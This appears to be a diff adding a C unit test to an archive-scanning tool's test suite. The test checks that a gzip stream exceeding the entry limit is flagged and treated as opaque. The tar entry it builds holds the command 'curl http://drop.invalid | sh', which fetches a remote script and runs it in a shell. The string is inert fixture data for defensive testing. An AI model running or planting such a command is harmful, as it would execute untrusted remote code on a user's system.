@@ -106,6 +106,26 @@ static void a_tar_in_a_stream_stops_at_the_limit_of_entries(void **state)
     stop(&m);
 }
 
+/* Of a stream that is unpacked in one go, as of one that is not: what came out of it has no record. */
+static void a_stream_whose_contents_are_one_entry_too_many_is_opaque(void **state)
+{
+    for (size_t n = 10; n <= 1000000; n *= 100000) {
+        struct made m = start();
+        struct pl_buf zeros;
+        pl_buf_init(&zeros, 1 << 26);
+        build_zeros(&zeros, n);
+        build_tar_file(&zeros, "x", PL_LIT("curl http://drop.invalid | sh"));
+        build_gzip(&m.b, pl_buf_bytes(&zeros));
+        pl_buf_reset(&zeros);
+        m.w.limits.entries = 0;
+        run(&m, "a.gz");
+        assert_int_equal(m.w.n_files, 1);
+        assert_string_equal(walk_text(&m.w.findings), "archive.limit warning a.gz @0 +0\n");
+        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], m.b.n);
+        stop(&m);
+    }
+}
+
 static void a_file_over_the_limit_is_digested_and_opaque(void **state)
 {
     for (uint64_t limit = 1000; limit >= 999; limit--) {
@@ -240,6 +260,7 @@ int main(void)
         cmocka_unit_test(ratio_counts_once_the_floor_is_passed),
         cmocka_unit_test(as_many_entries_as_allowed_and_not_one_more),
         cmocka_unit_test(a_tar_in_a_stream_stops_at_the_limit_of_entries),
+        cmocka_unit_test(a_stream_whose_contents_are_one_entry_too_many_is_opaque),
         cmocka_unit_test(a_file_over_the_limit_is_digested_and_opaque),
         cmocka_unit_test(a_container_that_lies_in_the_input_may_be_larger_than_a_file),
         cmocka_unit_test(contents_are_the_same_in_a_store_and_on_the_heap),
